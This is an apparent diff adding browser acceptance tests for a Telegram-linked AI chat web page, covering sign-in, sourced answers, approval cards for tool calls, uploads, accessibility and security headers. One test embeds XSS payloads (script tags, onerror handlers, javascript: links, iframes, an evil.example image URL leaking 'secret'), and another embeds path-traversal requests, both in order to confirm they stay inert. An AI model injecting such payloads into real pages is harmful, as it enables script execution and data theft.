@@ -1,0 +1,391 @@
+"""The web chat in a real browser, as somebody uses it who signs in from Telegram."""
+
+import json
+from collections.abc import Iterator
+from dataclasses import dataclass
+from pathlib import Path
+from typing import Any
+
+import httpx
+import pytest
+from selenium import webdriver
+from selenium.common.exceptions import StaleElementReferenceException
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+from selenium.webdriver.remote.webelement import WebElement
+
+from rich_agent.phrases import say
+from tests.acceptance.browsing import SCREENSHOTS, fresh_browser, needs_browser
+from tests.acceptance.pictures import picture
+from tests.acceptance.scripting import calling
+from tests.acceptance.test_commands import command, press, shown
+from tests.acceptance.test_my_data import rows_naming
+from tests.acceptance.world import World, wait_until
+
+pytestmark = list(needs_browser)
+
+QUESTION = "What is proof of history?"
+AXE = Path(__file__).parent / "axe" / "axe.min.js"
+_SERIOUS = """
+const done = arguments[arguments.length - 1];
+axe.run(document, {resultTypes: ["violations"]}).then(
+    (found) => done(found.violations.filter((one) => ["serious", "critical"].includes(one.impact))
+        .map((one) => `${one.id}: ${one.nodes.map((node) => node.html).join(" ")}`)));
+"""
+
+
+def sign_in_link(world: World, user: int) -> str:
+    """What /web gives: a link with a code."""
+    message = command(world, user, "/web")
+    chat = press(world, user, message, say("en", "web-link"))
+    (url,) = [
+        button["url"]
+        for row in shown(chat, message["message_id"])["buttons"]
+        for button in row
+        if "url" in button
+    ]
+    return str(url)
+
+
+@dataclass(slots=True)
+class Chat:
+    """The page of one user, signed in by a link."""
+
+    browser: webdriver.Chrome
+    world: World
+    user: int
+
+    def open(self) -> None:
+        """Sign in."""
+        self.browser.get(sign_in_link(self.world, self.user))
+        self.await_shown("#composer")
+
+    def all(self, selector: str) -> list[WebElement]:
+        """Every element that is there."""
+        return self.browser.find_elements(By.CSS_SELECTOR, selector)
+
+    def await_shown(self, selector: str, holds: str = "") -> WebElement:
+        """The last such element that is shown and holds a text, once there is one."""
+
+        def found() -> WebElement | None:
+            try:
+                fit = [one for one in self.all(selector) if one.is_displayed()]
+                return fit[-1] if fit and holds in fit[-1].text else None
+            except StaleElementReferenceException:
+                return None
+
+        return wait_until(found, f"{selector} shows {holds!r}")
+
+    def send(self, text: str) -> None:
+        """Write and press Enter."""
+        self.browser.find_element(By.ID, "composer").send_keys(text, Keys.ENTER)
+
+    def await_over(self) -> None:
+        """Return once nothing is being written."""
+        self.await_shown("#send")
+
+    def screenshot(self, name: str) -> None:
+        """At both widths and in both schemes, kept where RICH_AGENT_SCREENSHOTS says."""
+        if not SCREENSHOTS:
+            return
+        for scheme in ("light", "dark"):
+            media = {"features": [{"name": "prefers-color-scheme", "value": scheme}]}
+            self.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", media)
+            for width, height in ((1280, 900), (390, 844)):
+                self.resize(width, height)
+                self.browser.save_screenshot(
+                    str(Path(SCREENSHOTS) / f"web-{name}-{width}-{scheme}.png")
+                )
+        self.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", {"features": []})
+        self.resize(1280, 900)
+
+    def resize(self, width: int, height: int) -> None:
+        """Also narrower than a window can be."""
+        size = {"width": width, "height": height, "deviceScaleFactor": 1, "mobile": False}
+        self.browser.execute_cdp_cmd("Emulation.setDeviceMetricsOverride", size)
+
+    def serious(self) -> list[str]:
+        """What axe finds that keeps people out."""
+        self.browser.execute_script(AXE.read_text("utf-8"))
+        found: list[str] = self.browser.execute_async_script(_SERIOUS)
+        return found
+
+
+@pytest.fixture
+def browser() -> Iterator[webdriver.Chrome]:
+    """A browser that has never been used."""
+    with fresh_browser("--lang=en") as opened:
+        yield opened
+
+
+@pytest.fixture
+def chat(browser: webdriver.Chrome, world: World, user: int) -> Chat:
+    """The page of a user who has just signed in."""
+    page = Chat(browser, world, user)
+    page.open()
+    return page
+
+
+def test_link_of_telegram_signs_in_once(chat: Chat, world: World, user: int) -> None:
+    """The code leaves the address, is kept nowhere, and opens no second browser."""
+    link = sign_in_link(world, user)
+    code = link.partition("#login=")[2]
+    assert code.startswith("rac_")
+    with fresh_browser("--lang=en") as other:
+        second = Chat(other, world, user)
+        other.get(link)
+        second.await_shown("#composer")
+        assert other.current_url == world.environment["PUBLIC_URL"] + "/chat"
+        assert other.execute_script("return document.cookie") == ""
+        assert code not in str(set(rows_naming(world, code)) - {"telegram_inbox"})
+        chat.await_shown("#sign-out").click()
+        chat.await_shown("#sign-in", "/web")
+        chat.browser.get(link)
+        chat.await_shown("#sign-in-error", "used")
+        message = command(world, user, "/web")
+        assert "Where you are signed in" in message["text"]
+        press(world, user, message, "✕ 1")
+        other.refresh()
+        second.await_shown("#sign-in")
+
+
+def test_question_is_answered_with_sources_that_open(chat: Chat) -> None:
+    """The answer grows; a marker and the list lead to the passage; the keyboard suffices."""
+    assert chat.serious() == []
+    chat.screenshot("empty")
+    chat.send(QUESTION)
+    chat.await_shown(".sources")
+    chat.await_over()
+    links = [one.get_attribute("href") or "" for one in chat.all(".answer a.cite")]
+    assert links
+    assert all("/library/solana/proof-of-history" in link for link in links)
+    listed = [one.get_attribute("href") for one in chat.all(".sources a")]
+    assert links[0] in listed
+    assert "#" in links[0]
+    for link in chat.all(".answer a"):
+        assert link.get_attribute("target") == "_blank"
+        assert "noopener" in (link.get_attribute("rel") or "")
+    assert QUESTION in chat.await_shown(".asked").text
+    spoken = chat.browser.find_element(By.ID, "announcer").get_attribute("textContent") or ""
+    assert spoken.startswith("Answer: ")
+    assert chat.browser.switch_to.active_element.get_attribute("id") == "composer"
+    assert chat.serious() == []
+    chat.screenshot("answer")
+    chat.resize(390, 844)
+    wide = "return document.documentElement.scrollWidth > document.documentElement.clientWidth"
+    assert chat.browser.execute_script(wide) is False
+    dark = {"features": [{"name": "prefers-color-scheme", "value": "dark"}]}
+    chat.browser.execute_cdp_cmd("Emulation.setEmulatedMedia", dark)
+    assert chat.serious() == []
+
+
+def test_history_holds_what_was_written_in_telegram(chat: Chat, world: World, user: int) -> None:
+    """One conversation: the page shows Telegram's turns with their sources, and the reverse."""
+    world.ask(user, QUESTION)
+    chat.browser.refresh()
+    asked = chat.await_shown(".asked p")
+    assert asked.text == QUESTION
+    assert any("proof-of-history" in (one.get_attribute("href") or "") for one in chat.all(".cite"))
+    chat.send("hi")
+    chat.await_shown(".answer", "Ask me anything")
+    chat.await_over()
+    rows = world.rows(
+        "SELECT thread_id, count(*) AS n FROM messages JOIN conversations c ON c.id = "
+        "conversation_id WHERE messages.user_id = %s GROUP BY thread_id",
+        user,
+    )
+    assert rows == [{"thread_id": f"tg:{user}", "n": 4}]
+
+
+def test_reload_in_the_middle_of_an_answer_goes_on(chat: Chat, world: World) -> None:
+    """The run is joined; its model is called once, and its words come once."""
+    before = world.sandbox.mark()
+    slow = {"containing": '"stream":true', "delay_s": 6.0}
+    world.sandbox.fail("openai", "slow", **slow)
+    chat.send("How is funding paid on perpetual futures?")
+    chat.await_shown(".answer .text")
+    chat.browser.refresh()
+    chat.await_shown(".asked", "How is funding paid")
+    chat.await_shown("#stop")
+    chat.await_shown(".sources")
+    chat.await_over()
+    assert len(chat.all(".turn")) == 1
+    streams = [one for one in world.sandbox.calls("openai", before) if one["body"].get("stream")]
+    assert len(streams) == 1
+    text = chat.await_shown(".answer").text
+    chat.browser.refresh()
+    chat.await_shown(".sources")
+    assert chat.await_shown(".answer").text == text
+
+
+def test_escape_stops_an_answer_and_retry_asks_again(chat: Chat, world: World) -> None:
+    """What was said stays; the button asks the same question once more."""
+    world.sandbox.fail("openai", "slow", containing='"stream":true', delay_s=30.0)
+    chat.send("How is funding paid on perpetual futures?")
+    chat.await_shown(".answer .text")
+    chat.browser.find_element(By.ID, "composer").send_keys(Keys.ESCAPE)
+    chat.await_shown(".note", "Stopped.")
+    chat.await_over()
+    world.sandbox.recover()
+    (retry,) = [one for one in chat.all(".tools button") if one.text == "Try again"]
+    retry.click()
+    chat.await_shown(".sources")
+    chat.await_over()
+    assert len(chat.all(".turn")) == 1
+
+
+def wish(user: int) -> str:
+    """What a user asks for, in words that only their requests hold."""
+    return f"Add the tasks of list {user}"
+
+
+def test_changes_wait_for_approval_on_a_card(chat: Chat, world: World, user: int) -> None:
+    """Nothing is done before; the card survives a reload; calls fold."""
+    calls = [calling("create_task", title="Bread"), calling("create_task", title="Salt")]
+    world.sandbox.script(wish(user), {"calls": calls}, "Both are on your list.")
+    chat.send(wish(user))
+    chat.await_shown(".card", "May I do this?")
+    assert chat.serious() == []
+    chat.screenshot("approval")
+    chat.browser.refresh()
+    card = chat.await_shown(".card", "Salt")
+    assert chat.browser.switch_to.active_element.text == "Approve"
+    titles = "SELECT title FROM tasks WHERE user_id = %s ORDER BY title"
+    assert world.rows(titles, user) == []
+    card.find_element(By.CSS_SELECTOR, ".primary").click()
+    chat.await_shown(".answer .text", "Both are on your list.")
+    chat.await_over()
+    assert [row["title"] for row in world.rows(titles, user)] == ["Bread", "Salt"]
+    folded, _ = chat.all("details.tool")
+    assert folded.get_attribute("open") is None
+    folded.find_element(By.TAG_NAME, "summary").click()
+    assert "Bread" in folded.text
+    assert chat.serious() == []
+    chat.screenshot("tools")
+
+
+def test_refused_changes_are_not_done(chat: Chat, world: World, user: int) -> None:
+    """The card says so, and nothing has changed."""
+    calls = [calling("create_task", title="Bread"), calling("create_task", title="Salt")]
+    world.sandbox.script(wish(user), {"calls": calls})
+    chat.send(wish(user))
+    chat.await_shown(".card .secondary").click()
+    chat.await_shown(".card.done", "Refused")
+    chat.await_over()
+    assert world.rows("SELECT title FROM tasks WHERE user_id = %s", user) == []
+
+
+def test_picture_is_uploaded_and_asked_about(
+    chat: Chat, world: World, user: int, tmp_path: Path
+) -> None:
+    """The bot asks back if no question came with it; what is written next answers it."""
+    file = tmp_path / "chart.png"
+    file.write_bytes(picture("orange", "navy"))
+    chat.browser.find_element(By.ID, "files").send_keys(str(file))
+    chat.await_shown("#attached img")
+    chat.browser.find_element(By.ID, "send").click()
+    chat.await_shown(".card", "A question for you")
+    assert chat.serious() == []
+    chat.screenshot("question")
+    chat.send("Which colours are in it?")
+    chat.await_shown(".answer .text")
+    chat.await_over()
+    assert chat.await_shown(".asked img").get_attribute("alt") == "Attached image: chart.png"
+    images = world.rows("SELECT sha256 FROM vision_senders WHERE thread_id = %s", f"tg:{user}")
+    assert len(images) == 1
+
+
+HOSTILE = (
+    "Look <script>window.hacked = 1</script><img src=x onerror='window.hacked = 2'> "
+    "![pixel](https://evil.example/p.png?q=secret) [click](javascript:window.hacked=3) "
+    "[prize](https://evil.example/prize) <a href='https://evil.example/x'>x</a> "
+    "<iframe src='https://evil.example'></iframe> **bold**"
+)
+
+
+def test_hostile_markdown_stays_text(chat: Chat, world: World, user: int) -> None:
+    """No script, no foreign image, no link that is neither a source nor the user's own."""
+    world.sandbox.script(wish(user), f"{HOSTILE} https://mine.example/page")
+    chat.send(f"{wish(user)} from https://mine.example/page")
+    chat.await_shown(".answer .text strong", "bold")
+    chat.await_over()
+    assert chat.browser.execute_script("return window.hacked ?? null") is None
+    assert chat.all(".answer img, .answer script, .answer iframe") == []
+    links = [one.get_attribute("href") for one in chat.all(".answer a")]
+    assert set(links) <= {"https://mine.example/page"}
+    urls = chat.browser.execute_script(
+        "return performance.getEntriesByType('resource').map((one) => one.name)"
+    )
+    home = world.environment["PUBLIC_URL"]
+    assert [url for url in urls if not url.startswith((home, "data:"))] == []
+    chat.browser.refresh()
+    chat.await_shown(".answer strong", "bold")
+    assert chat.browser.execute_script("return window.hacked ?? null") is None
+
+
+def test_connection_that_breaks_is_taken_up_again(chat: Chat, world: World) -> None:
+    """The page says that it is offline, and goes on where it was."""
+    world.sandbox.fail("openai", "slow", containing='"stream":true', delay_s=8.0)
+    chat.send("How is funding paid on perpetual futures?")
+    chat.await_shown(".answer .text")
+    network: dict[str, Any] = {"latency": 0, "downloadThroughput": -1, "uploadThroughput": -1}
+    chat.browser.execute_cdp_cmd("Network.enable", {})
+    offline = {**network, "offline": True}
+    chat.browser.execute_cdp_cmd("Network.emulateNetworkConditions", offline)
+    chat.await_shown("#connection", "You are offline")
+    online = {**network, "offline": False}
+    chat.browser.execute_cdp_cmd("Network.emulateNetworkConditions", online)
+    chat.await_shown(".sources")
+    chat.await_over()
+    assert chat.browser.find_element(By.ID, "connection").text == ""
+    assert len(chat.all(".turn")) == 1
+
+
+def test_page_speaks_the_language_of_the_account(world: World, user: int) -> None:
+    """What was chosen with /language comes before the browser's."""
+    with fresh_browser("--lang=en") as opened:
+        page = Chat(opened, world, user)
+        menu = command(world, user, "/language")
+        press(world, user, menu, "日本語")
+        message = command(world, user, "/web")
+        chat = press(world, user, message, say("ja", "web-link"))
+        ((button,), _) = shown(chat, message["message_id"])["buttons"]
+        opened.get(button["url"])
+        page.await_shown("#composer")
+        placeholder = page.all("#composer")[0].get_attribute("placeholder")
+        assert placeholder == "メッセージ"
+        assert opened.execute_script("return document.documentElement.lang") == "ja"
+        page.send("プルーフ・オブ・ヒストリーとは何ですか？")
+        page.await_shown(".answer .text")
+        page.await_over()
+        assert page.serious() == []
+        page.screenshot("japanese")
+
+
+def test_first_load_is_small_and_cannot_run_what_is_foreign(world: World) -> None:
+    """Everything that is fetched, compressed, is under 150 kB; each answer has its policy."""
+    home = world.environment["PUBLIC_URL"]
+    sizes, policies = {}, set()
+    with fresh_browser() as opened:
+        opened.get(f"{home}/chat")
+        wait_until(lambda: opened.find_element(By.ID, "sign-in").is_displayed() or None, "sign in")
+        urls = opened.execute_script(
+            "return performance.getEntriesByType('resource').map((one) => one.name)"
+        )
+    with httpx.Client(trust_env=False, headers={"Accept-Encoding": "gzip"}) as http:
+        for url in {f"{home}/chat", *(one for one in urls if "/session" not in one)}:
+            with http.stream("GET", url) as answer:
+                sizes[url] = len(b"".join(answer.iter_raw()))
+                assert answer.headers["content-encoding"] == "gzip", url
+                policies.add(answer.headers["content-security-policy"])
+                tag = answer.headers["etag"]
+            known = http.get(url, headers={"If-None-Match": tag})
+            assert (known.status_code, known.content) == (304, b"")
+        assert http.get(f"{home}/chat/../sign_in.py").status_code == 404
+        assert http.get(f"{home}/chat/%2e%2e/sign_in.py").status_code == 404
+    assert len(sizes) >= 9
+    assert sum(sizes.values()) < 150_000, json.dumps(sizes, indent=1)
+    (policy,) = policies
+    rules = dict(rule.strip().split(" ", 1) for rule in policy.split(";"))
+    assert rules["default-src"] == rules["frame-ancestors"] == rules["base-uri"] == "'none'"
+    assert rules["script-src"] == rules["style-src"] == rules["connect-src"] == "'self'"
